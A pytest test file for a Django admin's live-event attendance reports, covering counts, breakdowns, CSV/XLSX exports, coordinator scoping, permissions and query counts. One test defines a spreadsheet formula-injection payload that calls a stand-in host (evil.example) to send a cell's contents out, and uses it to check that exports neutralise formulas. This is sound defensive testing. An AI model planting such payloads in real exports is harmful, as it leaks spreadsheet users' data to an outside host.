"""The live event reports: per event registered, waiting, cancelled, attended, the rate and the
minutes against figures counted by hand (tests/reporting/conftest.py); per event its registrants
and the breakdowns by organisation type and voivodeship; CSV/XLSX exports safe for
spreadsheets; a coordinator limited to chosen courses sees their courses' events only; who may
see them; query counts that do not grow with the events or the registrants."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from courses.models import CoordinatorScope
from tests.factories import make_course, make_lesson, make_live_webinar
from webinars.models import WARSAW, Registration

from .conftest import STARTS, attend, in_english, register

LIST = "/admin/reports/live-events/"


def event_url(webinar):
    return f"/admin/reports/live-events/{webinar.pk}/"


def attendance_url(webinar):
    return f"/admin/reports/live-events/{webinar.pk}/attendance/"


def export(client, url, **params):
    response = client.get(url, {**params, "export": "csv"})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_events_list_counts_as_by_hand(staff, live_event, webinar_index):
    quiet = make_live_webinar(
        webinar_index, title="Nikt nie przyszedł", starts_at=STARTS + datetime.timedelta(days=7)
    )
    register(quiet, name="Ktoś", email="ktos@example.org")
    page = staff.get(LIST)
    assert page.status_code == 200
    html = page.content.decode()
    assert "Fundusz sąsiedzki na żywo" in html and "Nikt nie przyszedł" in html and "Live events: 2" in html
    assert f'href="{event_url(live_event)}"' in html and "not imported" in html
    rows = {row["Event"]: row for row in export(staff, LIST)}
    assert rows["Fundusz sąsiedzki na żywo"] == {
        "Starts": "2026-12-10 10:00",
        "Event": "Fundusz sąsiedzki na żywo",
        "Event cancelled": "no",
        "Registered": "4",
        "On the waiting list": "1",
        "Registrations cancelled": "1",
        "Registrants who attended": "3",  # Ola, Jan, the guest; Ewa's 0 minutes are not attending
        "Attendance rate (%)": "75.0",
        "Minutes attended, in total": "135",
        "Minutes attended, on average per attendee": "45.0",
        "Others present (not matched, or without a seat)": "2",  # the one waiting, the unmatched
    }
    quiet_row = rows["Nikt nie przyszedł"]
    assert (quiet_row["Registered"], quiet_row["Registrants who attended"]) == ("1", "")  # not imported
    assert quiet_row["Attendance rate (%)"] == quiet_row["Minutes attended, on average per attendee"] == ""
    # Newest first; the date filter narrows the list and the export alike.
    assert list(rows) == ["Nikt nie przyszedł", "Fundusz sąsiedzki na żywo"]
    only = export(staff, LIST, starts_to="2026-12-12")
    assert [row["Event"] for row in only] == ["Fundusz sąsiedzki na żywo"]


def test_the_event_report_lists_registrants_and_breakdowns(staff, live_event):
    page = staff.get(event_url(live_event))
    translation.activate("en")  # the labels are lazy: read them as the page did
    assert page.status_code == 200
    html = page.content.decode()
    assert "By organisation type" in html and "By voivodeship" in html
    breakdowns = page.context["breakdowns"]
    assert [(str(row["label"]), row["registered"], row["attended"], row["rate"], row["minutes"])
            for row in breakdowns["organisation_type"]] == [
        ("Local government unit", 1, 1, "100.0%", 30),
        ("Non-governmental organisation", 2, 1, "50.0%", 60),
        ("not given", 1, 1, "100.0%", 45),  # the guest
    ]  # fmt: skip
    assert [(str(row["label"]), row["registered"], row["attended"], row["rate"], row["minutes"])
            for row in breakdowns["voivodeship"]] == [
        ("łódzkie", 2, 1, "50.0%", 30),
        ("mazowieckie", 1, 1, "100.0%", 60),
        ("not given", 1, 1, "100.0%", 45),
    ]  # fmt: skip
    event = page.context["event"]
    assert (event.registered_count, event.attended, event.minutes_total) == (4, 3, 135)

    rows = {row["Name"]: row for row in export(staff, event_url(live_event))}
    assert list(rows) == ["Ola", "Jan", "Ewa", "Gość Gościński", "Czekająca", "Rezygnująca"]
    ola = rows["Ola"]
    assert ola["Email"] == "ola@example.org" and ola["Learner or guest"] == "learner"
    assert (ola["Status"], ola["Organisation type"], ola["Voivodeship"]) == (
        "Registered",
        "Non-governmental organisation",
        "mazowieckie",
    )
    assert (ola["Join link clicks"], ola["Minutes attended"]) == ("2", "60")
    assert ola["Registered at"][:4] == str(datetime.date.today().year)
    guest = rows["Gość Gościński"]
    assert (guest["Learner or guest"], guest["Organisation type"], guest["Minutes attended"]) == (
        "guest",
        "",
        "45",
    )
    waiting = rows["Czekająca"]
    assert (waiting["Status"], waiting["Minutes attended"]) == ("On the waiting list", "20")
    assert rows["Ewa"]["Minutes attended"] == "0"
    # The filters narrow the list (not the breakdowns).
    guests = export(staff, event_url(live_event), kind="guest", status="registered")
    assert [row["Name"] for row in guests] == ["Gość Gościński"]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def test_exports_neutralise_formulas(staff, live_event, webinar_index):
    register(live_event, name=FORMULA, email="zly@example.org")
    make_live_webinar(webinar_index, title="@SUM(1+1)", starts_at=STARTS + datetime.timedelta(days=1))
    for url in (LIST, event_url(live_event)):
        response = staff.get(url, {"export": "csv"})
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], url
    names = [row["Name"] for row in export(staff, event_url(live_event))]
    assert "'" + FORMULA in names
    assert "'@SUM(1+1)" in [row["Event"] for row in export(staff, LIST)]

    response = staff.get(event_url(live_event), {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    evil = next(cell for cell in cells if cell.value == FORMULA)
    assert evil.data_type == "s"
    assert "Ola" in [cell.value for cell in cells]
    response = staff.get(LIST, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [cell.value for cell in next(sheet.iter_rows())][:2] == ["Starts", "Event"]


@pytest.fixture
def scoped(course_index, live_event, webinar_index, django_user_model):
    """A coordinator limited to course A, whose lesson is `live_event`; another event is a step
    of course B, and a third is a step of an unpublished lesson of A."""
    a = make_course(course_index, title="A", slug="a")
    b = make_course(course_index, title="B", slug="b")
    other = make_live_webinar(webinar_index, title="Wydarzenie kursu B", starts_at=STARTS)
    draft = make_live_webinar(webinar_index, title="Szkic w kursie A", starts_at=STARTS)
    for course, event, publish in ((a, live_event, True), (b, other, True), (a, draft, False)):
        lesson = make_lesson(course, title=f"Na żywo: {event.title}", publish=publish)
        lesson.live_event = event
        revision = lesson.save_revision()
        if publish:
            revision.publish()
        else:
            lesson.save()
    user = django_user_model.objects.create_user("ograniczony", "o@example.org", "haslo-koordynatora")
    user.groups.add(Group.objects.get(name="Coordinators"))
    CoordinatorScope.objects.create(user=user).courses.set([a])
    in_english(user)
    client = Client()
    client.force_login(user)
    return {"client": client, "other": other, "draft": draft}


def test_a_coordinator_limited_to_courses_sees_their_events_only(scoped, live_event):
    client = scoped["client"]
    titles = [row["Event"] for row in export(client, LIST)]
    assert titles == ["Fundusz sąsiedzki na żywo"]
    assert client.get(event_url(live_event)).status_code == 200
    assert client.get(attendance_url(live_event)).status_code == 200
    for event in (scoped["other"], scoped["draft"]):
        assert client.get(event_url(event)).status_code == 404
        assert client.get(attendance_url(event)).status_code == 404
        assert client.get(event_url(event), {"export": "csv"}).status_code == 404


def test_unscoped_coordinators_see_every_event(staff, scoped):
    titles = {row["Event"] for row in export(staff, LIST)}
    assert titles == {"Fundusz sąsiedzki na żywo", "Wydarzenie kursu B", "Szkic w kursie A"}


def test_editors_and_learners_are_refused(client, editor, live_event, learners):
    client.force_login(editor)
    for url in (LIST, event_url(live_event), attendance_url(live_event)):
        assert client.get(url).status_code == 403, url
        assert client.get(url, {"export": "csv"}).status_code == 403, url
    client.force_login(learners["ola"])
    for url in (LIST, event_url(live_event), attendance_url(live_event)):
        response = client.get(url)
        assert response.status_code == 302 and "/login/" in response["Location"], url


def test_who_may_only_view_sees_no_import_or_match_forms(client, editor, live_event):
    editor.user_permissions.add(Permission.objects.get(codename="view_attendance"))
    in_english(editor)
    client.force_login(editor)
    page = client.get(attendance_url(live_event))
    assert page.status_code == 200
    html = page.content.decode()
    assert 'name="report"' not in html and 'name="registration"' not in html
    assert "Telefon 600 100 200" in html
    assert client.post(attendance_url(live_event), {}).status_code == 403


def grow(webinar_index, learners, events=5, registrants=8):
    """More events, each with more registrants and attendance, for the query counts."""
    for number in range(events):
        webinar = make_live_webinar(
            webinar_index, title=f"Wydarzenie {number}",
            starts_at=datetime.datetime(2026, 11, 1 + number, 10, tzinfo=WARSAW),
        )  # fmt: skip
        for person in range(registrants):
            registration = register(webinar, name=f"Osoba {person}", email=f"o{number}-{person}@example.org")
            attend(webinar, name=f"Osoba {person}", minutes=person * 5, registration=registration)
        register(webinar, name="Ola", email="ola@example.org", user=learners["ola"])


def count_queries(client, url, **params):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
        if response.streaming:
            b"".join(response.streaming_content)
        else:
            response.content  # noqa: B018
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("params", [{}, {"export": "csv"}, {"export": "xlsx"}], ids=["page", "csv", "xlsx"])
def test_query_counts_do_not_grow_with_events_or_registrants(
    staff, live_event, webinar_index, learners, django_assert_max_num_queries, params
):
    urls = [LIST, event_url(live_event)]
    if not params:
        urls.append(attendance_url(live_event))
    for url in urls:
        staff.get(url, params)  # warm the per-process caches (content types, site)
    counts = {url: count_queries(staff, url, **params) for url in urls}
    grow(webinar_index, learners)
    for number in range(12):
        status = Registration.Status.WAITING if number % 2 else Registration.Status.REGISTERED
        registration = register(live_event, name=f"Nowa {number}", email=f"n{number}@x.org", status=status)
        attend(live_event, name=f"Nowa {number}", minutes=number, registration=registration)
        attend(live_event, name=f"Nieznana {number}", minutes=number)
    for url in urls:
        assert counts[url] <= 30, (url, counts[url])
        with django_assert_max_num_queries(counts[url]):
            response = staff.get(url, params)
            if response.streaming:
                b"".join(response.streaming_content)
            else:
                assert b"Nowa 11" in response.content or url == LIST


def test_before_a_report_is_imported_the_breakdowns_show_no_rate(staff, live_event):
    """Nothing known yet is not 0%: the rate and minutes are blank until a report is in."""
    from webinars.models import Attendance

    Attendance.objects.filter(webinar=live_event).delete()
    html = staff.get(event_url(live_event)).content.decode()
    assert "0.0%" not in html and "not imported" in html
    assert html.count("<td>—</td><td>—</td><td>—</td>") == 6  # 3 organisation types, 3 voivodeships
